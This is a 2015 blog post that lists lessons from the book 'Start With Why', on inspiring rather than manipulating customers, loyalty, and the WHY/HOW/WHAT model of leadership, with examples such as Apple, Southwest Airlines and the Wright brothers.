Oct 10, 2015 By Arindam Chatterjee

1 vote, 2.00 avg. rating (55% score)
Today is the 2nd Saturday of the 10th month – time for LEARNING FROM BOOKS.



Why are some people and organizations more innovative, pioneering and successful than others? And why are they able to repeat their success again and again?

Because in business, it doesn’t matter what you do, it matters why you do it.

This book has taught me a lot. I would like to share my learning with you.1. Samuel Pierpont Langley and the Wright brothers both were trying to make a plane. SP Langley was very well known, had all the best resources – men, money and materials. On the other hand Wright Brothers only had the money from their bicycle shop and they were hardly known. Yet on December 17, 1903, a small group of men witnessed a man taking flight for the first time in history. It was the Wright brothers.
  2. How did the Wright brothers succeed where the better – equipped, better – funded and better – educated team led by SP Langley could not?
  3. It wasn’t luck. Both the Wright brothers and Langley were highly motivated. Both had a strong work ethic. Both had keen scientific minds. They were pursuing exactly the same goal.
  4. But only the Wright brothers were able to inspire those around them and truly led their team to develop a technology that would change the world. Only the Wright brothers started with Why.
  5. Steve Wozniak and Steve Jobs were not the only people taking part in the personal computer revolution. They weren’t the smartest guys in the business. In fact they did not know much about the business at all. What made Apple special was not their ability to build such a fast paced company. It wasn’t their ability to think differently about personal computers. What has made Apple special is that they have been ableto repeat the pattern over and over again. Unlike any other competitors, Apple has successfully  challenged the conventional thinking within the computer industry, the small electronics industry, the music industry, the mobile phone industry and the broader entertainment industry. And the reason is simple. Apple inspires. Apple starts with Why.
  6. Martin Luther King was not perfect. He has his complexities. The ability to attract so many people from across the country, of all colours and races, to join together on the right day, at the right time, took something special. Though others knew what had to change in America to bring about a civil rights for all, it was Martin Luther King, who was able to inspire a country to change, not just for the good of the minority, but for the good of everyone. Martin Luther King started with Why.
  7. The ability to motivate people in itself, is not very difficult. It is usually tied to some external factor. Tempting incentives or a threat of punishment will often elicit behaviour we desire. General Motors, for example, so successfully motivated people to buy their products that they sold cars more than any other automaker in the world for over 77 years. Though they were leaders in the industry, they did not lead.
  8. Great leaders, in contrast, are able to inspire people to act. Those who are able to inspire, give people a sense of purpose, or belonging that has little to do with any external incentive or benefit to be gained.
  9. People who love to go to work are more productive and creative. They go home happier and have happierfamilies. They treat their colleagues, customers and clients better. Inspired employees make for stronger companies and stronger economies.
  10. Our behaviour is affected by our assumptions or our perceived truths. We make our decisions based on what we think we know.
  11. The reality is that most businesses today are making decisions based on a set of incomplete or, worse, completely flawed assumptions about what’s driving their business.
  12. There are two ways to influence a human behaviour – you can manipulate it, or you can inspire it.
  13. From business to politics, manipulation run rampant in all forms of sales and marketing. Typical manipulation includes – dropping the price, running a promotion, using fear or peer pressure or aspirational messages and promising innovation to influence a behaviour.
  14. When companies ororganizations do not have a clear sense of why their customers are their customers, they tend to rely on a disproportionate number of manipulations to get what they need. And for good reason. Manipulations work.
  15.  Price always cost something. The question is, how much are we willing to pay for the money  we make?
  16. The manipulative nature of promotions is so well established in retail that the industry even named one of its principles. They call it breakage. Breakage measures thepercentage of customers who fail to take advantage of a promotion and end up paying the full price of the product. This typically happens when the buyers don’t bother to perform the necessary steps to claim their rebates, a process purposely kept complicated or inconvenient to increase the likelihood of mistakes or inaction to keep the breakage number up.
  17. When fear is employed, facts are incidental. Deeply seated in our biological drive to survive, that emotion cannot be quickly wiped away with facts and figures. This is how terrorism works. Its not the statistical probability that one could be hurt by a terrorist. But it is the fear that it might happen that cripples the population.
  18. “Quitting smoking is the easiest thing I have done. I have done it hundreds of time” Mark Twain.
  19. If fear motivates us to move away from something horrible, messages tempt us to towards something desirable.
  20. Though positive in nature, aspirational messages are most effective with those who lack the discipline or have a nagging fear or insecurity that they don’t have the ability to achieve their dreams on their own. I always jokethat you can get someone to buy a gym equipment using an aspirational message, but to get them to go on that equipment requires a lot of inspiration.
  21. Someone who lives a healthy life style and exercises regularly does not respond to “six easy steps of losing weight”. It’s those who don’t have the lifestyle that are most susceptible.
  22. Beyond the business world, manipulations are the norm in politics today as well. Just as manipulation can drive a sale but not create loyalty, so too can help a candidate get elected but they don’t create a foundation for leadership.
  23. Leadership requires people to stick with you through thick and thin. Leadership is the ability to rally people not for a single event but for years. In business, leadership means that customers will support your company even when you slip up sometimes.
  24. There is a big difference between repeat business and loyalty. Repeat business is when people do business with you multiple times. Loyalty is when, people are willing to turn down a better offer, a better product or a better price to continue doing business with you.
  25. Loyal customer often don’t bother to research the competition or entertain other options.
  26. Loyalty is not easily won. Repeat business however is. All it takes is more manipulations.
  27. Manipulations lead to transaction not loyalty.
  28. Manipulations work, but they cost a lot of money. When money is not available to fund these tactics, not having loyal customers really hurts.
  29. After September 11, there were customers who sent cheques to Southwest Airlines to show their support. One note that accompanies a $1000 read, “You have been so good to me over the years, in this hard times, I wantedto say thank you, by helping you out.” The cheques that Southwest Airlines received certainly were not enough to make a significant impact on the bottom line, but they were symbolic of the feeling the customers had for the brand. They had a sense of partnership. The loyal behaviour of those who did not send money, is impossible to measure, but its impact has been invaluable over the long term helping Southwest Airlines to maintain its position as the most profitable airlines in history.
  30. Knowing you have a loyal customers and employees not only reduces cost, it gives you immense peace of mind. Like loyal friends, you know these loyal customers and employees will be with you when you need them the most. It is a feeling of “WE ARE IN THIS TOGETHER”.
  31. In contrast, relying on manipulation creates massive stress for the buyer and seller alike.There are a few leaders who choose to inspire rather than manipulate in order to motivate people. Whether individuals of organization, every single of these inspiring leaders thinks, acts and communicates exactly the same way.

WHAT: every single company and the organizationin this planet knows WHAT they do. This is not matter how big or small , no matter what industry. Everyone is able to describe the products or services the company sells or the job function they have within that system. WHAT’s are easy to understand.

HOW: some companies and people know HOW they do WHAT they do. Whether you call them a differentiating value proposition or unique selling proposition, HOWs are often given to explain how something is different or better. Not as obvious as WHATs, many think these are the differentiating and motivating factors in a decision. It would be false to assume thats all what is required. There is one missing detail:

WHY: very few people or companies clearly articulate WHY they do WHAT they do. When I say WHY, I don’t mean to make money – thats a result. By WHY I mean what is your purpose, cause or belief. WHY does your company exist? WHY do you get out of the bed each morning? And WHY should anyone care?

When most organizations and people think, act or communicate, they do so from outside in from WHAT to WHY. And for goodreason – they go from the clearest thing to the fuzziest thing. We say WHAT we do, we sometimes say HOW we do, but we rarely say WHY we do WHAT we do.

33. But not the inspired companies. Not the inspired leaders. Every single one of them, regardless of the size of the industry, thinks, acts and communicates from the inside out from WHY to WHAT.

34. WHAT companies do are external factors, but WHY they do is something deeper.

35. People don’t buy WHAT you do, but WHY you do it. This is the reason APPLE  has earned a remarkable level of flexibility. People are obviously comfortable buying a computer from APPLE. Their products give life to their cause.

36. The newest area of the brain, our Homo Sapien brain, is the neo cortex which corresponds to the WHAT level. The neo cortex is responsible for the rational and the analytical thought.

The middle two sections comprise the limbic brain. The limbic brain is responsible for all the feelings, such as trust and loyalty. It is also responsible for the human behaviour and all our decision making.37. When we are communicating from the outside in, from the WHAT area, people can understand vast amount of data, facts and figures, but it does not drive behaviour. But when we communicate from inside out, from WHY area, we are talking directly to the brain that controls decision making and this helps us to rationalize our decisions.

38. This is what we mean when we talk about winning hearts and minds. The heart represents the limbic brain, feeling part of the brain and the mind is the rational centre. Most companies are quite adept at winning minds. All that requires is a comparison of features and benefits. Winning hearts, however takes more work.

39. The power of the limbic brain is astounding. It not only controls our gut decisions, but it can influence us to do things, that seem illogical and irrational. Leaving the safety at home to explore faraway places. Crossing oceans to see what is on the other side. Leaving a job starting a business of your own out of your basement with no money in the bank. Many of us look at these decisions and say, “Thats stupid. You are crazy. You could lose everything. You could get yourself killed. What are you thinking?” It is not logic or facts, but our hopes and dreams, our hearts and our guts that drive us to try new things.

40. Products with a clear sense of WHY gives people a way to tell the outside world, who they are and what they believe. Remember people don’t buy WHAT you do but WHY you do it.

41. Understanding HOW you do things and more importantly, having the discipline to hold the organization and all its employees accountable to those guiding principles enhances the organization’s ability to work to its natural strengths. Understanding HOW gives greater ability,for example to hire people or find partners who will naturally thrive when working with you.

42. Everything you say and prove you do has to prove what you believe. A WHY is just a belief. HOW are the actions you take to realize that belief. And WHAT’s are the results of those actions. If people don’t buy WHAT you do but WHY you do it, then all things must be consistent. With consistency people will see and hear without a shadow of doubt, what you believe.

43. Ask a best salesman what it takes to be a great sales man. They will always tell you, it helps when you really believe in the product you are selling. What does belief has to do with selling? Simple. When the salesman believes in what they are selling, all the words that come out of their mouth is authentic. Passion exudes from the salesman. Relationship also builds trust.

44. It is a false assumption that differentiation happens in HOW and WHAT you do. Simply offering high quality product with more features and better service or a better price does not create thedifference. Doing so guarantees no success. Differentiation happens in WHY and HOW you do it. Southwest isn’t the best airlines in the world. Nor are they the cheapest. They have fewer routes than many of their competitors and they don’t even fly outside the USA. WHAT they do is not always significantly better. But WHY they do it is crystal clear and everything they do proves it. There are many ways to motivate people to do things, but loyalty comes from the ability to inspire people. Only when WHY is clear and the people believe what you believe can a true loyal relationship develop.

45. The ability to put aWHY into words provides the emotional context for decisions. It offers greater confidence than “I think it is right”. It is more scalable than “I feel it is right”. When you know your WHY the highest level of confidence you can offer is “I know it is right.”

46. If a company mistreats its people, just watch how their employees treat their customers. Mud rolls down the hill, and if you are standing atthe bottom, you get hit with the full brunt. In a company, thats usually the customer who is treated the worst.

47. Trust does not emerge simply because a seller makes a rational case why a customer should buy a product or service, or because an executive promises change. Trust is not a checklist. Fulfilling all your responsibilities does not create trust. Trust is a feeling, not a rational experience. We trust some people and companies even when things go wrong. And we don’t trust others eventhough everything ahs gone exactly as it should have been. Trust begins to emerge when we have a sense that another person or organization is driven by things other than self gain.

48. Leading is not the same as being a leader. Being a leader means you hold the highest rank, either by earning it, good fortune, or navigating internal politics.

49. Leading however means, others are willing to follow you – not because they have to, but because they want to.

